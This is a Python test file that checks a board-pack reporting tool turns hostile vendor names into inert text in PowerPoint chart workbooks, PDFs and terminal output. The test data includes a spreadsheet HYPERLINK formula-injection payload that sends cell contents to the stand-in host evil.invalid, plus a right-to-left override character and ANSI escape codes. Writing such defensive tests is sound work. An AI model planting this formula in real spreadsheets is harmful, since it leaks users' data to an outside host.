"""Data that tries to act, in the board pack and the command line's output: a vendor named like a
spreadsheet formula, a right-to-left override, a 10,000-character category and terminal escape
codes. Every one must arrive as inert text: no live formula in the workbooks behind PowerPoint's
charts, no reversed words, a PDF that still builds, a terminal that is not driven."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import date

import openpyxl
import pytest
from pptx import Presentation
from pypdf import PdfReader

from boardpack import build_pack
from cli import main
from metrics import db, sources
from metrics.exports import CUT_MARK
from metrics.fiscal import FiscalCalendar, FiscalQuarter
from metrics.settings import SAMPLE_DIR, Settings
from tests.boardpack.test_boardpack import NoChromium

FORMULA_VENDOR = '=HYPERLINK("http://evil.invalid/"&A1,"click")'
RLO_VENDOR = "Sales\u202eforce Pro"  # U+202E would reverse every word after it
LONG_NAME = "Platform " + "x" * 10_000  # a vendor both departments pay: in the overlap table and chart
ESCAPE_VENDOR = "Clear\x1b[2J\x1b[31mScreen"
Q = FiscalQuarter(2026, 3)


def _folder_with_payloads(tmp_path):
    folder = tmp_path / "data"
    shutil.copytree(SAMPLE_DIR, folder)
    with (folder / "spend.csv").open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    rows = [
        ("Marketing", FORMULA_VENDOR, "CRM", "950000.00"),
        ("IT", FORMULA_VENDOR, "CRM", "990000.00"),
        ("Marketing", RLO_VENDOR, "CRM", "800000.00"),
        ("IT", RLO_VENDOR, "CRM", "810000.00"),
        ("Marketing", LONG_NAME, "Analytics", "2500.00"),
        ("IT", LONG_NAME, "Analytics", "2600.00"),
        ("IT", ESCAPE_VENDOR, "Analytics", "300.00"),
    ]
    with (folder / "spend.csv").open("a", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, header, lineterminator="\n")
        for i, (department, vendor, category, amount) in enumerate(rows):
            writer.writerow(
                {
                    "date": "2026-08-14",
                    "department": department,
                    "vendor": vendor,
                    "category": category,
                    "amount": amount,
                    "invoice_id": f"PAYLOAD-{i}",
                }
            )
    return folder


@pytest.fixture(scope="module")
def payload_db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("payloads")
    folder = _folder_with_payloads(tmp)
    engine = db.make_engine(f"duckdb:///{tmp / 'payloads.duckdb'}")
    outcome = sources.load_folder(folder, engine, sources.read_options(Settings()), source="payloads")
    assert outcome.report.ok, [f for f in outcome.findings if f["severity"] == "error"][:3]
    yield engine, folder
    engine.dispose()


def _pack(engine, fmt: str, **kwargs):
    return build_pack(engine, FiscalCalendar(1), Q, fmt, source="payloads", today=date(2026, 11, 23), **kwargs)


def test_pptx_chart_workbooks_hold_no_formula(payload_db):
    engine, _ = payload_db
    data = _pack(engine, "pptx").data
    workbooks = [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if n.endswith(".xlsx")]
    assert workbooks, "the native charts carry their workbooks"
    seen_vendor = False
    for name in workbooks:
        book = openpyxl.load_workbook(io.BytesIO(zipfile.ZipFile(io.BytesIO(data)).read(name)))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}!{cell.coordinate} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                        seen_vendor = True
                        assert cell.value.startswith("'="), "the vendor name stays visible, as inert text"
    assert seen_vendor, "the overlap chart names the vendor that both departments pay"


def _slide_texts(data: bytes) -> str:
    out = []
    for slide in Presentation(io.BytesIO(data)).slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                out.append(shape.text_frame.text)
            if shape.has_table:
                out += [cell.text for row in shape.table.rows for cell in row.cells]
            if shape.has_chart:
                out += [str(c) for plot in shape.chart.plots for c in plot.categories]
    return "\n".join(out)


def test_pptx_text_has_no_override_escape_or_endless_name(payload_db):
    engine, _ = payload_db
    text = _slide_texts(_pack(engine, "pptx").data)
    assert "Salesforce Pro" in text, "the overlap chart names the vendor, its letters in order"
    assert "\u202e" not in text and "\x1b" not in text
    assert "x" * 1300 not in text, "a 10,000-character name is cut"


def test_pdf_builds_with_a_ten_thousand_character_name(payload_db):
    engine, _ = payload_db
    pack = _pack(engine, "pdf", renderer=NoChromium())
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pack.data)).pages)
    assert "Platform" in text and CUT_MARK in text, "the long name is shown, cut with a visible mark"
    assert text.count("x") < 3 * 1_200, "never the whole 10,000 characters"
    assert "\u202e" not in text


def test_check_output_cannot_drive_the_terminal(payload_db, capsys):
    _, folder = payload_db
    main(["check", str(folder)])
    out = capsys.readouterr().out
    assert "Clear" in out, "the catalogue warning names the vendor"
    assert "\x1b" not in out and "\u202e" not in out
    assert re.search(r"Clear\[2J\[31mScreen|ClearScreen", out) is None or "\x1b" not in out
